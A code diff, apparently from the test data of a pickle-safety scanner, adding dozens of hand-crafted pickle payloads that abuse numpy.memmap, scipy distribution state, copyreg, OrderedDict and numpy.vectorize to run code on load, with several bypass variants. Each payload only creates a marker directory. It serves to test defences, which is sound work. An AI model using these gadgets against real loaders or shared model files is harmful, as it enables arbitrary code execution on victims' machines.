@@ -262,6 +262,17 @@ LIBRARIES: dict[str, Payload] = {
         + dct(text("_parse_arg_template"), text(f"import os;os.mkdir({m!r})"))
         + b"b"
     ),
+    "numpy.memmap without a constructor": lambda m: whole(
+        name("numpy", "memmap") + tup(text(m), text("u1"), text("w+"), b"K\x00", b"K\x01\x85") + b"\x81"
+    ),
+    "numpy.memmap behind a rebuilt one": lambda m: whole(
+        name("numpy", "memmap")
+        + b"\x940"
+        + call(name("numpy._core.multiarray", "_reconstruct"), b"h\x00", b"K\x00\x85", data(b"b"))
+        + b"0h\x00"
+        + tup(text(m), text("u1"), text("w+"), b"K\x00", b"K\x01\x85")
+        + b"R"
+    ),
     "pandas.read_pickle": lambda m: whole(call(name("pandas", "read_pickle"), call(name("_io", "BytesIO"), data(CALLS["os.system"](m))))),
     "pandas.to_csv": lambda m: whole(call(name("pandas", "DataFrame.to_csv"), call(name("pandas", "DataFrame"), lst(b"K\x01")), text(m))),
     "sklearn joblib": lambda m: whole(call(name("joblib.numpy_pickle", "dump"), b"K\x01", text(m))),
@@ -270,6 +281,83 @@ LIBRARIES: dict[str, Payload] = {
     "cloudpickle function": lambda m: _cloud(m),
 }
 """Gadgets of numpy, scipy, pandas, joblib and cloudpickle."""
+
+
+def parser(shapes: str = "", scale: str = "loc=0, scale=1", out: str = "loc, scale", behind: str = "") -> str:
+    """The text that scipy makes for a distribution, with something else behind it."""
+    return (
+        f"\ndef _parse_args(self, {shapes} {scale}):\n    return ({shapes}), {out}\n"
+        f"\ndef _parse_args_rvs(self, {shapes} {scale}, size=None):\n    return self._argcheck_rvs({shapes} {out}, size=size)\n"
+        f"\ndef _parse_args_stats(self, {shapes} {scale}, moments='mv'):\n    return ({shapes}), {out}, moments\n{behind}"
+    )
+
+
+def distribution(*states: bytes, cls: str = "norm_gen") -> bytes:
+    """A distribution into which states are put one after the other."""
+    return whole(name("scipy.stats._continuous_distns", cls) + b")\x81" + b"".join(state + b"b" for state in states))
+
+
+def state(value: bytes, *more: bytes) -> bytes:
+    """A state with that as the text to be run, and what else a distribution needs."""
+    return dct(text("_parse_arg_template"), value, text("numargs"), b"K\x00", text("moment_type"), b"K\x01", *more)
+
+
+def made(marker: str) -> str:
+    return f"import os;os.mkdir({marker!r})"
+
+
+PARSER = text("_parse_arg_template")
+
+DISTRIBUTIONS: dict[str, Payload] = {
+    "other text": lambda m: distribution(state(text(made(m)))),
+    "text behind": lambda m: distribution(state(text(parser(behind=made(m))))),
+    "a default": lambda m: distribution(state(text(parser(f"a=__import__('os').mkdir({m!r}), ")))),
+    "an annotation": lambda m: distribution(state(text(parser(scale=f"loc: __import__('os').mkdir({m!r})=0, scale=1")))),
+    "a carriage return": lambda m: distribution(state(text(parser(behind=f"\r{made(m)}\n")))),
+    "another head": lambda m: distribution(state(text(parser("a, ").replace("(self, a", f"(self, a=__import__('os').mkdir({m!r})")))),
+    "text of protocol 0": lambda m: distribution(state(b"V" + made(m).encode() + b"\n")),
+    "a string of Python 2": lambda m: distribution(state(b"S" + repr(made(m)).encode() + b"\n")),
+    "bytes": lambda m: distribution(state(data(made(m).encode()))),
+    "computed text": lambda m: distribution(state(call(name("builtins", "str"), text(made(m))))),
+    "a kind of str": lambda m: distribution(state(call(name("numpy", "str_"), text(made(m))))),
+    "a kind of str without its constructor": lambda m: distribution(state(name("builtins", "str") + tup(text(made(m))) + b"\x81")),
+    "pairs in a tuple": lambda m: distribution(tup(tup(PARSER, text(made(m))))),
+    "pairs in a list": lambda m: distribution(lst(tup(PARSER, text(made(m))))),
+    "keys of a dict as a pair": lambda m: distribution(tup(dct(PARSER, b"N", text(made(m)), b"N"), text("ab"))),
+    "an ordered dict": lambda m: distribution(call(name("collections", "OrderedDict"), lst(tup(PARSER, text(made(m)))))),
+    "items of an ordered dict": lambda m: distribution(name("collections", "OrderedDict") + b")R" + PARSER + text(made(m)) + b"s"),
+    "another mapping": lambda m: distribution(
+        name("collections", "UserDict") + b")\x81" + dct(text("data"), dct(PARSER, text(made(m)))) + b"b"
+    ),
+    "a computed key": lambda m: distribution(dct(call(name("numpy", "str_"), PARSER), text(made(m)))),
+    "set twice": lambda m: distribution(dct(PARSER, text(parser()), PARSER, text(made(m)))),
+    "a second state": lambda m: distribution(state(text(parser())), dct(PARSER, text(made(m)))),
+    "a state changed later": lambda m: distribution(state(text(parser())) + b"\x94", b"h\x00" + PARSER + text(made(m)) + b"s"),
+    "another class": lambda m: distribution(state(text(made(m))), cls="rv_histogram"),
+    "by copyreg": lambda m: whole(
+        call(name("copyreg", "_reconstructor"), name("scipy.stats._discrete_distns", "randint_gen"), name("builtins", "object"), b"N")
+        + dct(PARSER, text(made(m)))
+        + b"b"
+    ),
+    "what attaches is replaced": lambda m: distribution(
+        dct(text("_attach_methods"), _partial(name("os", "mkdir"), text(m))),
+    ),
+    "what is executed is replaced": lambda m: distribution(
+        state(text(parser()), text("_attach_argparser_methods"), _partial(name("os", "mkdir"), text(m)))
+    ),
+    "a vectorized function": lambda m: whole(
+        name("numpy", "vectorize")
+        + b")\x81"
+        + dct(
+            text("pyfunc"), name("os", "mkdir"), text("signature"), b"N", text("cache"), b"\x89", text("otypes"), text("O"),
+            text("excluded"), call(name("builtins", "set")), text("_ufunc"), dct(),
+        )
+        + b"b"
+        + tup(text(m))
+        + b"R"
+    ),
+}  # fmt: skip
+"""Texts and functions that a distribution of scipy runs when its state is put in."""
 
 TORCH: dict[str, Payload] = {
     "storage bytes": lambda m: whole(call(name("torch.storage", "_load_from_bytes"), data(_torch_legacy(m)))),
